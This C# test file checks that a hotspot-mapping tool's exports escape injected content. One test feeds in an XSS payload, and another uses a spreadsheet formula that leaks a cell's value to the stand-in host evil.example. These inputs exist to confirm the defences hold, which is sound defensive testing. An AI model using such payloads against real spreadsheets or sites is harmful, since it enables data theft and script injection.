using System.Net;
using System.Text.Json;
using Hotspots.Core.Files.Release;
using Hotspots.Tests.Desktop.Loading;

namespace Hotspots.Tests.Desktop;

public sealed class ExportTests
{
    private const string Script = "<script>alert(1)</script>";

    [Fact]
    public async Task A_script_in_a_file_stays_text_wherever_it_is_shown_or_written()
    {
        await using HostRun run = await HostRun.StartAsync(Crowd(Script, Script));
        string query = """{"given":{"eps":100,"min-points":3}}""";
        JsonElement answer = await run.RunAsync(query);
        Assert.Equal(Script, answer.GetProperty("hotspots")[0].GetProperty("operations")[0].GetProperty("name").GetString());
        using HttpResponseMessage raw = await run.PostAsync("/api/run", query);
        Assert.Equal("application/json", raw.Content.Headers.ContentType?.MediaType);
        Assert.DoesNotContain("<script", await raw.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);
        using HttpResponseMessage layer = await run.PostAsync("/api/export/hotspots.geojson", query);
        Assert.Equal("application/geo+json", layer.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", layer.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", layer.Headers.GetValues("X-Content-Type-Options").Single());
        JsonElement properties = (await HostRun.ReadJsonAsync(layer)).GetProperty("features")[0].GetProperty("properties");
        Assert.Equal(Script, properties.GetProperty("operations")[0].GetString());
        foreach (string path in (string[])["/api/dataset", "/api/incident/0", "/api/incidents"])
        {
            using HttpResponseMessage seen = await run.SendAsync(HttpMethod.Get, path);
            Assert.DoesNotContain("<script", await seen.Content.ReadAsStringAsync(), StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public async Task A_formula_in_a_file_is_text_in_the_table()
    {
        const string Formula = "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")";
        await using HostRun run = await HostRun.StartAsync(Crowd(Formula, "@SUM(1)"));
        using HttpResponseMessage answer = await run.PostAsync("/api/export/hotspots.csv", """{"given":{"eps":100,"min-points":3}}""");
        Assert.Equal("text/csv", answer.Content.Headers.ContentType?.MediaType);
        Assert.Equal("hotspots OFFICIAL-SENSITIVE.csv", answer.Content.Headers.ContentDisposition?.FileNameStar);
        string[] lines = (await answer.Content.ReadAsStringAsync()).TrimStart('\uFEFF').Split("\r\n");
        Assert.StartsWith("rank,", lines[0], StringComparison.Ordinal);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example?\"\"&A1,\"\"x\"\")\"", lines[1], StringComparison.Ordinal);
        Assert.Contains("\"'@SUM(1)\"", lines[1], StringComparison.Ordinal);
        Assert.EndsWith("\"", lines[1], StringComparison.Ordinal);
        Assert.Contains(",\"OFFICIAL-SENSITIVE\",\"", lines[1], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_layer_is_a_download_and_none_tells_the_notes()
    {
        const string Note = "the man at number 9 said so";
        await using HostRun run = await HostRun.StartAsync(Crowd("Racer", "L1", Note));
        foreach (string layer in ReleaseDoor.LayerNames)
        {
            using HttpResponseMessage answer = await run.PostAsync("/api/export/" + layer, "{}");
            Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
            string text = await answer.Content.ReadAsStringAsync();
            Assert.NotEmpty(text);
            Assert.DoesNotContain(Note, text, StringComparison.Ordinal);
            Assert.Contains(
                "OFFICIAL-SENSITIVE", layer.EndsWith(".csv", StringComparison.Ordinal) ? answer.Content.Headers.ContentDisposition!.FileNameStar
                : text, StringComparison.Ordinal);
        }
        JsonElement shown = await run.GetJsonAsync("/api/incident/0");
        Assert.Contains(Note, shown.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_export_that_is_broken_off_leaves_nothing_behind()
    {
        HostRun run = await HostRun.StartAsync(ManyIncidents.Csv(50_000));
        await run.GetJsonAsync("/api/dataset");
        string[] before = run.Kept;
        string folder = run.Host.Folder, here = Directory.GetCurrentDirectory();
        string[] beside = Directory.GetFileSystemEntries(here);
        using var leaving = new CancellationTokenSource();
        using HttpResponseMessage answer =
            await run.PostAsync("/api/export/incidents.geojson", """{"given":{"eps":20,"min-points":50}}""", leaving.Token);
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        await using Stream stream = await answer.Content.ReadAsStreamAsync();
        await stream.ReadExactlyAsync(new byte[1000]);
        // The page has a thousand bytes of many, and the host is killed.
        Assert.Equal(before, run.Kept);
        await run.DisposeAsync();
        Assert.False(Directory.Exists(folder));
        Assert.Equal(beside, Directory.GetFileSystemEntries(here));
        await Assert.ThrowsAnyAsync<Exception>(async () => await stream.CopyToAsync(Stream.Null));
    }

    private static string Crowd(string operation, string line, string notes = "")
    {
        string Quoted(string text) => "\"" + text.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
        IEnumerable<string> rows = Enumerable.Range(0, 8).Select(i =>
            $"T{i},tip,2024-05-0{i + 1},{323700 + 10 * i},364000,Mold,High Street,{Quoted(operation)},{Quoted(line)},{Quoted(notes)}");
        return "id,kind,time,easting,northing,town,street,operation,line,notes\n" + string.Join('\n', rows) + "\n";
    }
}
